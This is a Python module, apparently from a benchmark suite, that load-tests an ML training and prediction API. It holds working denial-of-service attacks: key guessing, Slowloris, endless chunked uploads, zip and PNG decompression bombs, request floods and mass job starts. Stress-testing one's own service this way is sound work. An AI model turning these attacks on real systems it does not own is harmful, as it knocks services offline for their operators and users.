"""Attacks on a running service, each an endless loop in a process of its own: ``python -m bench.attacks KIND URL KEY``.

What is sent is made once, so that the attacker's own work takes as little as may be of a machine that both share.
"""

import contextlib
import io
import os
import socket
import struct
import sys
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Final
from urllib.parse import urlsplit

_CONNECTIONS: Final = 8
_SLOW: Final = 200
_PAUSE_SECONDS: Final = 0.005
"""Between two requests of one connection."""
_MEBIBYTE: Final = 2**20
_FORM: Final = "Content-Type: multipart/form-data; boundary=b"


class Target:
    """The service, as an attacker sees it: an address, a key of its own, and a model that this key may ask."""

    def __init__(self, url: str, key: str, model: str) -> None:
        self._address = (urlsplit(url).hostname or "", urlsplit(url).port or 0)
        self.key, self.model = key, model

    def connected(self) -> socket.socket:
        """A new connection."""
        return socket.create_connection(self._address, timeout=10)

    def head(self, line: str, *headers: str, key: str | None = None) -> bytes:
        """A request's head, with this key instead of the right one."""
        authorization = f"Authorization: Bearer {self.key if key is None else key}"
        return "\r\n".join([f"{line} HTTP/1.1", "Host: x", authorization, *headers, "", ""]).encode()

    def post(self, path: str, kind: str, body: bytes) -> bytes:
        """A whole request."""
        return self.head(f"POST {path}", kind, f"Content-Length: {len(body)}") + body

    def again_and_again(self, request: Callable[[], bytes]) -> None:
        """Send such requests over one connection after the other, each after the answer to the one before."""
        while True:
            with contextlib.suppress(OSError), self.connected() as connection:
                while True:
                    connection.sendall(request())
                    if not connection.recv(65536):
                        break
                    time.sleep(_PAUSE_SECONDS)
            time.sleep(_PAUSE_SECONDS)


def wrong_keys(target: Target) -> None:
    """Guess keys, always others."""
    target.again_and_again(lambda: target.head("GET /jobs", key=f"ft_{os.urandom(16).hex()}"))


def slow_heads(target: Target) -> None:
    """Slowloris: keep connections open with a byte now and then, and open what was closed."""
    connections: list[socket.socket] = []
    while True:
        with contextlib.suppress(OSError):
            while len(connections) < _SLOW // _CONNECTIONS:
                connections.append(target.connected())
                connections[-1].sendall(b"GET /jobs HTTP/1.1\r\nX: ")
        for connection in list(connections):
            try:
                connection.sendall(b"x")
            except OSError:
                connections.remove(connection)
        time.sleep(1)


def endless_bodies(target: Target) -> None:
    """Upload without end, in chunks, so fast as it is read."""
    part = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.zip"\r\n\r\n'
    piece = b"%x\r\n%s\r\n" % (_MEBIBYTE // 16, bytes(_MEBIBYTE // 16))
    while True:
        with contextlib.suppress(OSError), target.connected() as connection:
            connection.sendall(target.head("POST /datasets", _FORM, "Transfer-Encoding: chunked"))
            connection.sendall(b"%x\r\n%s\r\n" % (len(part), part))
            while True:
                connection.sendall(piece)
                time.sleep(_PAUSE_SECONDS)


def archive_bombs(target: Target) -> None:
    """Upload zip archives that would become far more than they are."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(20):
            archive.writestr(f"red/{number}.png", _image_bomb() if number % 2 else bytes(40 * _MEBIBYTE))
    part = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.zip"\r\n\r\n'
    request = target.post("/datasets", _FORM, part + packed.getvalue() + b"\r\n--b--\r\n")
    target.again_and_again(lambda: request)


def image_bombs(target: Target) -> None:
    """Ask for predictions of the largest picture that is still taken, in few bytes: it is decoded in full."""
    request = target.post(f"/predict?model={target.model}", "Content-Type: image/png", _image_bomb())
    target.again_and_again(lambda: request)


def flood(target: Target) -> None:
    """Ask for predictions of a small picture, as fast as they are answered."""
    request = target.post(f"/predict?model={target.model}", "Content-Type: image/png", png(64, 64))
    target.again_and_again(lambda: request)


def starts(target: Target) -> None:
    """Start job after job."""
    body = b'{"dataset": "ds_none", "backbone": "torchvision/resnet18"}'
    request = target.post("/jobs", "Content-Type: application/json", body)
    target.again_and_again(lambda: request)


KINDS: Final[Mapping[str, Callable[[Target], None]]] = {
    "wrong-keys": wrong_keys,
    "slow-heads": slow_heads,
    "endless-bodies": endless_bodies,
    "archive-bombs": archive_bombs,
    "image-bombs": image_bombs,
    "flood": flood,
    "starts": starts,
}


def png(width: int, height: int) -> bytes:
    """A grey picture."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", zlib.compress(bytes((width + 1) * height), 9)), (b"IEND", b"")]
    packed = (struct.pack(">I", len(c)) + k + c + struct.pack(">I", zlib.crc32(k + c)) for k, c in chunks)
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


def _image_bomb() -> bytes:
    return png(7_000, 7_000)


def main() -> None:
    """Attack until killed, over several connections."""
    kind, url, key, model = sys.argv[1:5]
    os.nice(19)  # an attacker has a machine of its own, and takes nothing of this one's but by what it asks
    for _ in range(_CONNECTIONS):
        threading.Thread(target=KINDS[kind], args=[Target(url, key, model)], daemon=True).start()
    threading.Event().wait()


if __name__ == "__main__":
    main()
